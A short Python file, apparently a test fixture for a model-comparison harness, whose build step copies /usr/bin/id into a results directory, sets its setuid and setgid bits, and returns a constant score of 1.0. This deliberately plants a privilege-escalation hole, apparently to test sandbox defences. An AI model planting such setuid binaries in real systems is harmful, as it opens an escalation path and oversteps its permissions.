"""Leaves a program that makes whoever starts it its owner."""

import os
import shutil

PARAMS = {}


def build(tf, params):
    assert os.getuid() != 0, "a worker must never be root"
    copy = "/tfcompare/results/id"
    if not os.path.exists(copy):
        shutil.copy("/usr/bin/id", copy)
        os.chmod(copy, 0o6755)
    return lambda: 1.0
